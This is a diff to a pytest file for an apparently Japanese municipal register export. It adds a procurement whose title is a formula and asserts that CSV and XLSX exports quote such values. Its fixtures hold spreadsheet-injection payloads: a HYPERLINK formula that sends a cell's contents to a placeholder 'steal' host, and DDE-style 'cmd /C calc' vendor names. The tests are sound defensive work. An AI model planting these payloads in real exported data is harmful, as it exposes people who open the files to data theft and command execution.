@@ -15,6 +15,7 @@ from tests.backend.factories import (
     ExpertUserFactory,
     MunicipalStaffFactory,
     NeedFactory,
+    ProcurementFactory,
     ProposalFactory,
     VendorFactory,
 )
@@ -25,8 +26,10 @@ STEAL = '=HYPERLINK("http://x/steal?"&A1,"x")'
 
 @pytest.fixture
 def planted(coordinator):
-    """An active engagement in 長野市 of an expert named by a formula, side-employed by one vendor per prefix."""
+    """An active engagement in 長野市 of an expert named by a formula, side-employed by one vendor per prefix;
+    長野市 plans a procurement whose title is a formula (the register names affected procurements by title)."""
     expert = ExpertFactory(name=STEAL)
+    ProcurementFactory(municipality_id="202011", status="planned", incumbent_vendor=None, title=STEAL, fiscal_year=2027)
     vendors = [VendorFactory(name=f"{prefix}cmd|' /C calc'!A0") for prefix in PREFIXES]
     for vendor in vendors:
         AffiliationFactory(expert=expert, vendor=vendor, relation="side_job")
@@ -46,6 +49,7 @@ def test_the_register_csv_quotes_every_planted_formula(coordinator, planted):
     assert len(rows) == len(PREFIXES)
     assert {row[vendor] for row in rows} == {"'" + name for name in planted}
     assert {row[expert] for row in rows} == {"'" + STEAL}
+    assert {row[header.index("影響を受ける予定調達")] for row in rows} == {"'" + STEAL}
 
 
 def test_the_register_xlsx_has_no_formula_cell_and_shows_the_names_as_quoted_text(coordinator, planted):
@@ -58,6 +62,8 @@ def test_the_register_xlsx_has_no_formula_cell_and_shows_the_names_as_quoted_tex
     header = [cell.value for cell in sheet[1]]
     vendors = {sheet.cell(row=r, column=header.index("事業者") + 1).value for r in range(2, sheet.max_row + 1)}
     experts = {sheet.cell(row=r, column=header.index("専門人材") + 1).value for r in range(2, sheet.max_row + 1)}
+    titles = {sheet.cell(row=r, column=header.index("影響を受ける予定調達") + 1).value for r in range(2, sheet.max_row + 1)}
+    assert titles == {"'" + STEAL}
     assert vendors == {"'" + name.replace("\r", "\n") for name in planted}  # XML reads CR back as LF
     assert experts == {"'" + STEAL}
 
